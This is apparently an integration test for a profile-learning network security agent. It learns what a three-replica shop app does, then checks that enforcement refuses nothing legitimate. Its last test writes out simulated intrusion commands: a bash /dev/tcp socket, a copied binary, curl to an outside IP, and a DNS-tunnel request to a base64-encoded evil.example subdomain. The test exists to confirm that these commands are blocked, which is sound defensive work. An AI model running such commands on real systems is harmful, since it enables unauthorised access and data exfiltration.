/**
 * Real software is learned while it works, by an agent that is killed in between, from three replicas of which each did a part; then all of
 * it runs under what was learned, without one packet refused or reported; and an intruder in it gets nowhere.
 */
import assert from "node:assert/strict";
import { globSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { parseAllDocuments } from "yaml";
import type { SecurityProfile } from "../../src/api/types.ts";
import type { AgentEvent, VerdictEvent } from "../../src/flow/record.ts";
import { learningProfile } from "../../src/learn/learning-profile.ts";
import { isVerdict } from "./harness/event-stream.ts";
import { Fixture } from "./harness/fixture.ts";
import { patiently } from "./harness/patience.ts";
import { addSearchDomains } from "./harness/resolver.ts";
import { REPLICAS, SERVICES, Shop, shopZone } from "./software/shop.ts";

const DNS = "198.51.100.53";
const APT = "/usr/lib/apt/methods/http";
const [POSTGRES] = globSync("/usr/lib/postgresql/*/bin");
if (POSTGRES === undefined) throw new Error("PostgreSQL is not installed: tools/setup tests installs it");

const isReplica = (app: string) => app.startsWith("web-");
const fixture = await Fixture.start("learned-software", {
  apps: [...REPLICAS, ...SERVICES],
  // As the pods of a StatefulSet, web, are labelled.
  labelsOf: (app) => (isReplica(app) ? { app: "web", "apps.kubernetes.io/pod-index": app.slice(-1) } : {}),
  startAgent: false,
});
const WORKLOADS = ["web", ...SERVICES];
await fixture.servers.zone(shopZone((app) => fixture.workload(app).ipv4));
for (const app of [...REPLICAS, ...SERVICES]) addSearchDomains(fixture, app, ["corp.example"]);
const shop = new Shop(fixture, POSTGRES);
const socket = join(fixture.agent.stateFolder, "observe.sock");

/** Every job in every replica, or of each replica a third, such that all have been done by somebody. */
async function work(share: "all" | "a third"): Promise<void> {
  for (const [number, replica] of REPLICAS.entries()) {
    const jobs = shop.jobs(replica).filter((_, index) => share === "all" || index % REPLICAS.length === number);
    for (const job of jobs) await shop.does(replica, job);
    assert.equal(await shop.page(replica, "/"), "welcome\n");
    assert.equal(await shop.page(replica, "/api"), "api +PONG hello\n");
  }
}

/** What was recorded, once as much is there as has happened: the agent reads the kernel's events at its own pace. */
async function learned(workload: string): Promise<string> {
  const name = workload === "web" ? `${fixture.name}-web` : fixture.workload(workload).name;
  const { code, stdout, stderr } = await fixture.agent.command(
    ...["learn", name, "--server", socket, "--resolver", DNS, "--search-domain", "corp.example", "--include", APT],
  );
  assert.equal(code, 0, stderr);
  return stdout;
}

const profiles: SecurityProfile[] = [];

test("what real software does is learned, each of three replicas having done a part, and the agent having been killed", async () => {
  const labels = WORKLOADS.map((app) => learningProfile({ name: app, namespace: "default", labels: { app } }));
  fixture.agent.write(...labels);
  await fixture.agent.start();
  await shop.start();
  const slow = shop.run("web-0", [
    "psql",
    "-qAt",
    "-h",
    "db.example.com",
    "-U",
    "postgres",
    "-c",
    "select pg_sleep(3)",
  ]);
  await sleep(1000);
  await fixture.agent.crash();
  await fixture.agent.start();
  assert.equal((await slow).code, 0);
  await work("a third");
  await sleep(patiently(1500));
  for (const workload of WORKLOADS) {
    const text = await learned(workload);
    writeFileSync(fixture.path(`${workload}.yaml`), text);
    const [document] = parseAllDocuments(text);
    profiles.push(document?.toJS() as SecurityProfile);
  }
  const [web] = profiles;
  const paths = web?.spec.processes?.map(({ path }) => path) ?? [];
  for (const path of [APT, join(POSTGRES, "psql"), fixture.path("bin", "report")])
    assert.ok(paths.includes(path), paths.join(", "));
  assert.equal(
    paths.some((path) => /\/(da)?sh$/.test(path)),
    false,
    paths.join(", "),
  );
});

test("started again under what was learned, every replica does all of it: nothing is refused, nothing reported", async () => {
  await shop.stop();
  const mark = fixture.agent.events.mark();
  await fixture.agent.apply(...profiles);
  const failure = await shop
    .start()
    .then(() => work("all"))
    .then(() => "", String);
  await sleep(patiently(500));
  const stopped = fixture.agent.events
    .since(mark)
    .filter(isVerdict)
    .filter(({ verdict }) => verdict !== "allowed");
  assert.deepEqual([failure, ...stopped.map(describe)], [""]);
});

test("an intruder in a replica gets nowhere: a shell, a second binary, another server, a tunnel of names", async () => {
  const copy = fixture.program("psql-of-mine", join(POSTGRES, "psql"));
  const attack = async (command: readonly string[], path: string, reason: string) => {
    const mark = fixture.agent.events.mark();
    const { code } = await shop.run("web-1", ["timeout", "2", ...command]);
    assert.notEqual(code, 0, command.join(" "));
    const wanted = (event: AgentEvent): event is VerdictEvent =>
      isVerdict(event) && event.verdict === "dropped" && event.reason === reason && event.process?.path === path;
    await fixture.agent.events.waitFor(`${path} ${reason}`, wanted, { from: mark });
  };
  const { ipv4 } = fixture.workload("db");
  await attack(["bash", "-c", `exec 3<>/dev/tcp/${ipv4}/5432`], "/usr/bin/bash", "BinaryUnknown");
  await attack([copy, "-h", ipv4, "-U", "postgres", "-c", "select 1"], copy, "BinaryUnknown");
  await attack(["curl", "-sS", "http://198.51.100.2/"], "/usr/bin/curl", "Peer");
  await attack(["curl", "-sS", "http://c2VjcmV0.evil.example/"], "/usr/bin/curl", "DnsName");
  assert.equal(await shop.page("web-1", "/api"), "api +PONG hello\n", "the work goes on");
});

function describe({ workload, process, verdict, reason, direction, proto, src, dst, dns }: VerdictEvent): string {
  const name = dns?.name === undefined ? "" : ` ${dns.name}`;
  return `${workload.name} ${process?.path} ${verdict} ${reason} ${direction} ${proto} ${src.ip}:${src.port} ${dst.ip}:${dst.port}${name}`;
}
